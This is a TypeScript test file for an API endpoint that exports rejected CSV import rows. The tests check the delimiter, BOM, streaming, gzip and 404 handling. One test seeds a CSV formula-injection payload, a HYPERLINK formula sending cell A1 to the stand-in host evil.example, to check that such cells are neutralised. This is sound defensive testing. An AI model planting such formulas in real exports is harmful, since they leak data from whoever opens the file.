import { randomUUID } from 'node:crypto';
import Papa from 'papaparse';
import { errorOf, startApi, type ApiHarness } from './harness';

let api: ApiHarness;
beforeAll(async () => {
  api = await startApi();
});
afterAll(async () => {
  await api.close();
});

const HEADERS = ['siren', 'nom', 'code_postal', 'email_contact'];

/** An import as a worker leaves it, with its row errors (raw cells stored with each error). */
async function seedImport(options: { delimiter?: string | null; fileName?: string } = {}): Promise<string> {
  const id = randomUUID();
  await api.db.pool.query(
    `INSERT INTO imports (id, profile, status, file_name, file_size, file_sha256, file_key, file_format, file_delimiter, file_headers, failed)
     VALUES ($1, 'companies', 'completed_with_errors', $2, 100, $3, 'stored.csv', 'csv', $4, $5, 2)`,
    [id, options.fileName ?? 'entreprises.csv', '0'.repeat(64), options.delimiter === undefined ? ',' : options.delimiter, HEADERS],
  );
  return id;
}

async function addError(
  importId: string,
  row: number,
  raw: string[] | null,
  error: { level?: string; column: string | null; code: string; message: string },
) {
  await api.db.pool.query(
    `INSERT INTO import_row_errors (import_id, row, level, "column", code, message, raw) VALUES ($1, $2, $3, $4, $5, $6, $7::jsonb)`,
    [importId, row, error.level ?? 'error', error.column, error.code, error.message, raw ? JSON.stringify(raw) : null],
  );
}

const download = (id: string) =>
  api.http
    .get(`/api/v1/imports/${id}/errors.csv`)
    .set('Authorization', `Bearer ${api.token}`)
    .buffer(true)
    .parse((res, done) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => done(null, text));
    });

const parse = (text: string, delimiter = ',') =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true }).data;

describe('GET /imports/:id/errors.csv', () => {
  it('gives each rejected row as the file held it, with its errors, neutralising formula-like cells', async () => {
    const id = await seedImport();
    await addError(id, 3, ['732829320', '=HYPERLINK("http://evil.example/?x="&A1, "Cliquez, ici")', '750', 'pas-un-email'], {
      column: 'code_postal',
      code: 'invalid_postal_code',
      message: 'code_postal: must be 5 characters, e.g. 75001',
    });
    await addError(id, 3, ['732829320', '=HYPERLINK("http://evil.example/?x="&A1, "Cliquez, ici")', '750', 'pas-un-email'], {
      column: 'email_contact',
      code: 'invalid_email',
      message: 'email_contact: must be an e-mail address such as contact@example.fr',
    });
    await addError(id, 4, null, { level: 'warning', column: null, code: 'duplicate_key', message: 'row 9 repeats this row' });
    await addError(id, 5, ['+33 1 23', '-5', '@SUM(A1)', '\tcaché\nsur deux lignes'], {
      column: 'siren',
      code: 'invalid_siren',
      message: 'siren: must be 9 digits',
    });

    const response = await download(id);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename=entreprises-rejected-rows.csv');
    const text = response.body as string;
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(parse(text)).toEqual([
      [...HEADERS, 'error_column', 'error_code', 'error_message'],
      [
        '732829320',
        `'=HYPERLINK("http://evil.example/?x="&A1, "Cliquez, ici")`,
        '750',
        'pas-un-email',
        'code_postal; email_contact',
        'invalid_postal_code; invalid_email',
        'code_postal: must be 5 characters, e.g. 75001; email_contact: must be an e-mail address such as contact@example.fr',
      ],
      ["'+33 1 23", "'-5", "'@SUM(A1)", "'\tcaché\nsur deux lignes", 'siren', 'invalid_siren', 'siren: must be 9 digits'],
    ]);
    // papaparse quoted the cells holding the delimiter, quotes or a line break; it doubled the quotes.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1, ""Cliquez, ici"")"`);
  });

  it("writes the file's own delimiter", async () => {
    const id = await seedImport({ delimiter: ';' });
    await addError(id, 2, ['1', 'Acme; et fils', '', ''], { column: 'siren', code: 'invalid_siren', message: 'siren: must be 9 digits' });
    const text = (await download(id)).body as string;
    expect(text.split('\r\n')[0]).toBe('\uFEFFsiren;nom;code_postal;email_contact;error_column;error_code;error_message');
    expect(parse(text, ';')[1]).toEqual(['1', 'Acme; et fils', '', '', 'siren', 'invalid_siren', 'siren: must be 9 digits']);
  });

  it('streams a hundred thousand rejected rows, page by page, in row order', async () => {
    const id = await seedImport({ fileName: 'big.csv' });
    await api.db.pool.query(
      `INSERT INTO import_row_errors (import_id, row, level, "column", code, message, raw)
       SELECT $1, g, 'error', 'siren', 'invalid_siren', 'siren: must be 9 digits', jsonb_build_array('x' || g, 'Société ' || g, '', '')
       FROM generate_series(2, 100001) AS g`,
      [id],
    );
    const rows = parse((await download(id)).body as string);
    expect(rows).toHaveLength(100_001);
    // Compressed on the way for a client that accepts gzip (superagent inflates it), still streamed.
    const zipped = await api.http
      .get(`/api/v1/imports/${id}/errors.csv`)
      .set('Authorization', `Bearer ${api.token}`)
      .set('Accept-Encoding', 'gzip')
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(zipped.headers['content-encoding']).toBe('gzip');
    expect(zipped.headers['content-length']).toBeUndefined();
    expect(parse((zipped.body as Buffer).toString('utf8'))).toEqual(rows);
    expect(rows[1]?.[0]).toBe('x2');
    expect(rows[100_000]?.[0]).toBe('x100001');
    expect(rows.slice(1).every((row, i) => row[0] === `x${i + 2}`)).toBe(true);
  });

  it('answers 404 for an unknown import', async () => {
    const unknown = await api.http.get(`/api/v1/imports/${randomUUID()}/errors.csv`).set('Authorization', `Bearer ${api.token}`);
    expect(unknown.status).toBe(404);
    expect(errorOf(unknown)?.code).toBe('not_found');
    const malformed = await api.http.get('/api/v1/imports/nope/errors.csv').set('Authorization', `Bearer ${api.token}`);
    expect(malformed.status).toBe(404);
  });
});
